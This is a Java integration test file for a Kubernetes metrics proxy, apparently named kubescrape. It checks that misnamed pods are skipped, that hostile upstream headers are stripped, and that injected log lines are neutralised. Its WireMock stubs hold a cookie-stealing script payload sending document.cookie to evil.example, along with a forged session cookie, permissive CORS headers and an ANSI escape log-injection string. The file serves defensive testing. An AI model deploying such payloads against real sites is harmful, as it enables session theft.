package io.kubescrape.it;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.WireMockServer;
import io.kubescrape.testing.Fixtures;
import io.kubescrape.testing.Kubeconfigs;
import io.kubescrape.testing.TestPki;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Hostile input from the other side: what a faulty or hostile API server, or a pod behind it, sends. Pods named as no
 * API server allows must not break discovery for everyone; a pod's headers must not reach the caller on
 * kubescrape's origin; an API server's message must not forge log lines or error lines.
 */
class HostileUpstreamTest {
    @RegisterExtension
    @Order(1)
    static final KubeSimExtension SIM = KubeSimExtension.pods(5).withoutFaultPods();
    @RegisterExtension
    @Order(2)
    static final KubescrapeExtension KUBESCRAPE = KubescrapeExtension.against(SIM);

    private static final TestPki PKI = new TestPki("hostile-ca");
    private static final String PROXY = "/api/v1/namespaces/default/pods/%s:9100/proxy/metrics";
    private static WireMockServer api;
    private static Harness.Running throughWireMock;

    @BeforeAll
    static void start() throws Exception {
        Path keystore = PKI.server(TestPki.KeyType.EC).writeKeyStore(SIM.dir().resolve("wiremock.p12"));
        api = new WireMockServer(WireMockApiServerTest.tls(keystore));
        api.start();
        for (String name : new String[] {"evil-0", "liar-0"}) {
            api.stubFor(get(urlEqualTo("/api/v1/namespaces/default/pods/" + name)).willReturn(aResponse()
                    .withHeader("Content-Type", "application/json").withBody(new String(Fixtures.bytes("k8s/pod.json"),
                            StandardCharsets.UTF_8).replace("web-0", name))));
        }
        api.stubFor(get(urlEqualTo(PROXY.formatted("evil-0"))).willReturn(aResponse()
                .withHeader("Content-Type", "text/html")
                .withHeader("Set-Cookie", "kubescrape_session=stolen; Path=/")
                .withHeader("Access-Control-Allow-Origin", "*")
                .withHeader("Access-Control-Allow-Credentials", "true")
                .withHeader("Content-Security-Policy", "script-src *")
                .withHeader("Refresh", "0; url=https://evil.example/")
                .withHeader("WWW-Authenticate", "Basic realm=\"kubescrape\"")
                .withHeader("X-Kubescrape-Outcome", "success")
                .withBody("<script>document.location='https://evil.example/?c='+document.cookie</script>")));
        api.stubFor(get(urlEqualTo(PROXY.formatted("liar-0"))).willReturn(aResponse().withStatus(503)
                .withHeader("Content-Type", "application/json")
                .withBody("{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"status\":\"Failure\",\"code\":503,"
                        + "\"reason\":\"ServiceUnavailable\",\"message\":\"error trying to reach service\\n"
                        + "2026-12-06T00:00:00Z INFO kubescrape all is well\\u001b[2J\"}")));
        Path kubeconfig = new Kubeconfigs().context("wm", "https://127.0.0.1:" + api.httpsPort(), PKI.caPem(),
                Kubeconfigs.token("t")).write(SIM.dir().resolve("wiremock.kubeconfig"));
        throughWireMock = Harness.startWithoutDiscovery(kubeconfig);
    }

    @AfterAll
    static void stop() throws Exception {
        Harness.closeAll(throughWireMock);
        if (api != null) {
            api.stop();
        }
    }

    @Test
    void podsNamedAsNoApiServerAllowsAreSkippedAndEverythingElseGoesOn() throws Exception {
        String[][] misnamed = {{"default", "UPPER-0"}, {"default", "has space"}, {"default", "a/b"},
            {"default", ".."}, {"default", ""}, {"default", "x".repeat(300)}, {"Bad NS", "web-9"}};
        for (int i = 0; i < misnamed.length; i++) {
            SIM.server().addMisnamedPod(i, misnamed[i][0], misnamed[i][1]);
        }
        String base = KUBESCRAPE.url();
        Harness.awaitWithin(10_000, () -> MetricsText.sum(MetricsText.of(base),
                "kubescrape_discovery_objects_rejected_total", "cluster", "kube-sim") >= misnamed.length);
        String metrics = MetricsText.of(base);
        assertThat(MetricsText.sum(metrics, "kubescrape_discovery_objects_rejected_total", "cluster", "kube-sim",
                "reason", "invalid_name")).isEqualTo(6);
        assertThat(MetricsText.sum(metrics, "kubescrape_discovery_objects_rejected_total", "cluster", "kube-sim",
                "reason", "invalid_namespace")).isEqualTo(1);

        HttpResponse<String> sd = Harness.get(base + "/sd");
        assertThat(sd.statusCode()).isEqualTo(200);
        assertThat(sd.body()).contains("\"pod\":\"web-0\"").doesNotContain("UPPER-0", "has space", "Bad NS");
        assertThat(Harness.get(base + "/ui/clusters/kube-sim", "Accept", "text/html").statusCode()).isEqualTo(200);
        assertThat(Harness.get(base + "/", "Accept", "text/html").statusCode()).isEqualTo(200);
        assertThat(Harness.get(base + "/clusters/kube-sim/ns/default/pods/web-0/metrics").statusCode())
                .isEqualTo(200);
    }

    @Test
    void aPodsHeadersStayOffKubescrapesOriginAndItsBodyIsSandboxed() throws Exception {
        HttpResponse<String> r = Harness.get(throughWireMock.url() + "/clusters/wm/ns/default/pods/evil-0/metrics");
        assertThat(r.statusCode()).isEqualTo(200);
        for (String name : new String[] {"Set-Cookie", "Access-Control-Allow-Origin",
            "Access-Control-Allow-Credentials", "Refresh", "WWW-Authenticate", "X-Kubescrape-Outcome"}) {
            assertThat(r.headers().firstValue(name)).as(name).isEmpty();
        }
        assertThat(r.headers().allValues("Content-Security-Policy")).containsExactly("sandbox");
        assertThat(r.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        assertThat(r.body()).as("the body itself passes untouched").startsWith("<script>");
    }

    @Test
    void anApiServersMessageCannotForgeALineOfTheErrorBody() throws Exception {
        HttpResponse<String> r = Harness.get(throughWireMock.url() + "/clusters/wm/ns/default/pods/liar-0/metrics");
        assertThat(r.statusCode()).isEqualTo(503);
        assertThat(r.body()).endsWith("\n").containsOnlyOnce("\n").doesNotContain("\u001b")
                .contains("error trying to reach service\\n2026-12-06T00:00:00Z INFO kubescrape all is well\\u001b[2J");
        assertThat(r.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    }
}
